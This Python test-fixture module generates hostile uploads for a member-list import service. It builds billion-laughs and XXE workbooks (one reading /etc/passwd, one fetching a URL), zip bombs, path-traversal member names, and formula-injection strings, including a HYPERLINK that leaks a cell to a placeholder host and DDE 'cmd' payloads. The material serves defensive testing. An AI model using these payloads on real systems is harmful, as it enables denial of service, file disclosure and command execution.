"""Hostile uploads, generated at test time (nothing large is checked in).

Each function returns the bytes of one file an attacker could upload: workbooks with nested
XML entities (billion laughs), external entities (XXE: a local file, an HTTP address), zip
bombs (a huge, highly compressible sheet), too many members, unsafe member names, nested
zips, encrypted members, and a .docx template that is a zip bomb. ``FORMULA_NAMES`` are member
names that a spreadsheet would evaluate if written as formulas.
"""
from __future__ import annotations

import io
import zipfile
import zlib

from openpyxl import Workbook

from docgen.ziputil import DEFLATED, RawEntry, make_entry, write_zip

SHEET = "xl/worksheets/sheet1.xml"
NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
HEADER = ["Họ và tên", "Số thẻ đảng viên"]

FORMULA_NAMES = [
    '=HYPERLINK("http://127.0.0.1:1/?leak="&B2,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def plain_xlsx(rows=(("Nguyễn Văn An", "10000001"),)) -> bytes:
    """A harmless member workbook (the base the hostile ones are made from)."""
    wb = Workbook()
    ws = wb.active
    ws.append(HEADER)
    for r in rows:
        ws.append(list(r))
        for cell in ws[ws.max_row]:
            cell.data_type = "s"  # text as typed, even "=…" (the attacker's text, not a formula)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _members(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(i.filename, zf.read(i)) for i in zf.infolist()]


def rezip(data: bytes, *, replace: dict[str, bytes] | None = None, add: list[tuple[str, bytes]] = ()) -> bytes:
    """``data`` (a zip) with some members replaced and others appended (duplicates allowed)."""
    replace = replace or {}
    entries = [make_entry(n, replace.get(n, b)) for n, b in _members(data)]
    entries += [make_entry(n, b) for n, b in add]
    return write_zip(entries)


def _sheet_with_doctype(doctype: str, cell_text: str) -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n{doctype}\n'
            f'<worksheet xmlns="{NS}"><sheetData>'
            f'<row r="1"><c r="A1" t="inlineStr"><is><t>Họ và tên</t></is></c>'
            f'<c r="B1" t="inlineStr"><is><t>Số thẻ đảng viên</t></is></c></row>'
            f'<row r="2"><c r="A2" t="inlineStr"><is><t>{cell_text}</t></is></c>'
            f'<c r="B2" t="inlineStr"><is><t>10000001</t></is></c></row>'
            f'</sheetData></worksheet>').encode("utf-8")


def billion_laughs_xlsx(levels: int = 10) -> bytes:
    """Nested entities: 10 levels of 10 references each expand to 10**10 'lol's."""
    ents = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, levels)]
    doctype = f"<!DOCTYPE worksheet [{''.join(ents)}]>"
    return rezip(plain_xlsx(), replace={SHEET: _sheet_with_doctype(doctype, f"&lol{levels - 1};")})


def billion_laughs_shared_strings_xlsx() -> bytes:
    """The same attack in the part openpyxl reads first when it opens a workbook."""
    data = plain_xlsx()
    names = [n for n, _ in _members(data)]
    ents = '<!ENTITY a "aaaaaaaaaa">' + "".join(f'<!ENTITY a{i} "{("&a%s;" % ("" if i == 1 else i - 1)) * 10}">'
                                                for i in range(1, 9))
    sst = (f'<?xml version="1.0"?><!DOCTYPE sst [{ents}]>'
           f'<sst xmlns="{NS}" count="1" uniqueCount="1"><si><t>&a8;</t></si></sst>').encode()
    if "xl/sharedStrings.xml" in names:
        return rezip(data, replace={"xl/sharedStrings.xml": sst})
    return rezip(data, add=[("xl/sharedStrings.xml", sst)])


def xxe_file_xlsx(path: str = "/etc/passwd") -> bytes:
    """An external entity that would copy a local file into a member's name."""
    doctype = f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file://{path}">]>'
    return rezip(plain_xlsx(), replace={SHEET: _sheet_with_doctype(doctype, "&xxe;")})


def xxe_http_xlsx(url: str = "http://127.0.0.1:1/") -> bytes:
    """An external entity (and an external DTD) that would make the server fetch an address."""
    doctype = f'<!DOCTYPE worksheet SYSTEM "{url}dtd" [<!ENTITY xxe SYSTEM "{url}">]>'
    return rezip(plain_xlsx(), replace={SHEET: _sheet_with_doctype(doctype, "&xxe;")})


def _streamed_entry(name: str, head: bytes, chunk: bytes, repeat: int, tail: bytes,
                    declared_size: int | None = None) -> RawEntry:
    """A deflated member ``head + chunk*repeat + tail`` compressed piece by piece (never whole in memory)."""
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    crc, size, parts = 0, 0, []
    for piece in [head] + [chunk] * repeat + [tail]:
        crc = zlib.crc32(piece, crc)
        size += len(piece)
        parts.append(co.compress(piece))
    parts.append(co.flush())
    comp = b"".join(parts)
    return RawEntry(name.encode(), 0, DEFLATED, crc, len(comp), size if declared_size is None else declared_size,
                    comp)


def zip_bomb_xlsx(uncompressed_mb: int = 1024, *, declared_size: int | None = None) -> bytes:
    """A workbook whose sheet inflates to ``uncompressed_mb`` MB of one repeated empty row.

    With ``declared_size`` the central directory lies about the member's size (a reader that
    trusted the data, not the directory, would inflate all of it).
    """
    base = _members(plain_xlsx())
    head = (f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{NS}"><sheetData>'
            '<row r="1"><c r="A1" t="inlineStr"><is><t>Họ và tên</t></is></c>'
            '<c r="B1" t="inlineStr"><is><t>Số thẻ đảng viên</t></is></c></row>').encode("utf-8")
    chunk = b"<row><c/><c/><c/><c/><c/><c/><c/><c/></row>" * 24000  # ~1 MB
    tail = b"</sheetData></worksheet>"
    entries = [make_entry(n, b) for n, b in base if n != SHEET]
    entries.append(_streamed_entry(SHEET, head, chunk, uncompressed_mb, tail, declared_size))
    return write_zip(entries)


def too_many_members_xlsx(count: int = 5000) -> bytes:
    return rezip(plain_xlsx(), add=[(f"xl/media/pad{i}.bin", b"x") for i in range(count)])


def traversal_xlsx(name: str = "../../../../tmp/noicutru-evil.xml") -> bytes:
    return rezip(plain_xlsx(), add=[(name, b"<evil/>")])


def duplicate_member_xlsx() -> bytes:
    return rezip(plain_xlsx(), add=[(SHEET, _sheet_with_doctype("", "Trần Văn Hai"))])


def nested_zip_xlsx() -> bytes:
    return rezip(plain_xlsx(), add=[("xl/embeddings/inner.xlsx", plain_xlsx())])


def encrypted_member_xlsx() -> bytes:
    entries = [make_entry(n, b) for n, b in _members(plain_xlsx())]
    entries = [RawEntry(e.name, e.flags | 0x1, e.method, e.crc, e.csize, e.usize, e.data)
               if e.name == SHEET.encode() else e for e in entries]
    return write_zip(entries)


def formula_names_xlsx(card_start: int = 20000001) -> bytes:
    """An honest-looking workbook whose member names are formulas (for the export test)."""
    return plain_xlsx([(name, str(card_start + i)) for i, name in enumerate(FORMULA_NAMES)])


def docx_zip_bomb(template: bytes, uncompressed_mb: int = 300) -> bytes:
    """A .docx template with a picture part that inflates to ``uncompressed_mb`` MB of zeros."""
    entries = [make_entry(n, b) for n, b in _members(template)]
    entries.append(_streamed_entry("word/media/image99.png", b"\x89PNG\r\n\x1a\n", b"\0" * (1024 * 1024),
                                   uncompressed_mb, b""))
    return write_zip(entries)


def docx_billion_laughs(template: bytes) -> bytes:
    """A .docx template whose main part declares nested entities."""
    members = dict(_members(template))
    xml = members["word/document.xml"].decode("utf-8")
    start = xml.index("?>") + 2 if xml.startswith("<?xml") else 0
    ents = '<!ENTITY a "aaaaaaaaaa">' + "".join(f'<!ENTITY a{i} "{("&a%s;" % ("" if i == 1 else i - 1)) * 10}">'
                                                for i in range(1, 9))
    xml = xml[:start] + f"<!DOCTYPE w:document [{ents}]>" + xml[start:]
    return rezip(template, replace={"word/document.xml": xml.encode("utf-8")})


HOSTILE_WORKBOOKS = {
    # name -> (generator, the error code the service answers with)
    "billion_laughs": (billion_laughs_xlsx, "xml_dtd"),
    "billion_laughs_shared_strings": (billion_laughs_shared_strings_xlsx, "xml_dtd"),
    "xxe_file": (xxe_file_xlsx, "xml_dtd"),
    "xxe_http": (xxe_http_xlsx, "xml_dtd"),
    "zip_bomb": (zip_bomb_xlsx, "zip_member_too_large"),
    "zip_bomb_ratio": (lambda: zip_bomb_xlsx(15), "zip_ratio"),
    "zip_bomb_lying_size": (lambda: zip_bomb_xlsx(200, declared_size=50_000), "not_xlsx"),
    "too_many_members": (too_many_members_xlsx, "zip_too_many_members"),
    "path_traversal": (traversal_xlsx, "zip_bad_name"),
    "absolute_path": (lambda: traversal_xlsx("/etc/noicutru-evil.xml"), "zip_bad_name"),
    "duplicate_member": (duplicate_member_xlsx, "zip_duplicate"),
    "nested_zip": (nested_zip_xlsx, "zip_nested"),
    "encrypted_member": (encrypted_member_xlsx, "zip_encrypted"),
}


def worst_allowed_xlsx(member_mb: float = 19.5, rows: int = 20000) -> bytes:
    """The heaviest workbook the default limits accept: a shared-string table just under the per-member
    limit (about 800,000 short strings, which openpyxl keeps in memory) and ``rows`` member rows
    of 20 columns that use them."""
    from service.importing.workbook import FIELD_LABELS
    heads = list(FIELD_LABELS.values())
    strings = list(heads)
    size, i = 0, 0
    while size < member_mb * 1024 * 1024:
        s = f"{'ab'[i % 2]}{i}"
        strings.append(s)
        size += len(s) + 16  # <si><t></t></si>
        i += 1
    sst = (f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{NS}" count="{len(strings)}" '
           f'uniqueCount="{len(strings)}">' + "".join(f"<si><t>{s}</t></si>" for s in strings) + "</sst>").encode()
    out = ['<row r="1">' + "".join(f'<c t="s"><v>{j}</v></c>' for j in range(len(heads))) + "</row>"]
    k = len(heads)
    for r in range(2, rows + 2):
        cells = []
        for j in range(len(heads)):
            if j == 1:
                cells.append(f'<c t="inlineStr"><is><t>{10000000 + r}</t></is></c>')
            else:
                cells.append(f'<c t="s"><v>{k % len(strings)}</v></c>')
                k += 1
        out.append(f'<row r="{r}">' + "".join(cells) + "</row>")
    sheet = (f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{NS}"><sheetData>' + "".join(out)
             + "</sheetData></worksheet>").encode()
    base = dict(_members(plain_xlsx()))
    ct = base["[Content_Types].xml"].replace(
        b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                     b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    rels = base["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument/'
                             b'2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
    return rezip(plain_xlsx(), replace={SHEET: sheet, "[Content_Types].xml": ct, "xl/_rels/workbook.xml.rels": rels},
                 add=[("xl/sharedStrings.xml", sst)])


def wide_xlsx(rows: int = 2000) -> bytes:
    """Member rows that each also hold a cell in the last column (XFD), with a matching dimension:
    read naively, every row would be 16,384 values wide."""
    out = ['<row r="1"><c r="A1" t="inlineStr"><is><t>Họ và tên</t></is></c>'
           '<c r="B1" t="inlineStr"><is><t>Số thẻ đảng viên</t></is></c></row>']
    for r in range(2, rows + 2):
        out.append(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>Nguyễn Văn {r}</t></is></c>'
                   f'<c r="B{r}" t="inlineStr"><is><t>{50000000 + r}</t></is></c>'
                   f'<c r="XFD{r}" t="inlineStr"><is><t>x</t></is></c></row>')
    sheet = (f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{NS}"><dimension ref="A1:XFD{rows + 1}"/>'
             f'<sheetData>{"".join(out)}</sheetData></worksheet>').encode("utf-8")
    return rezip(plain_xlsx(), replace={SHEET: sheet})
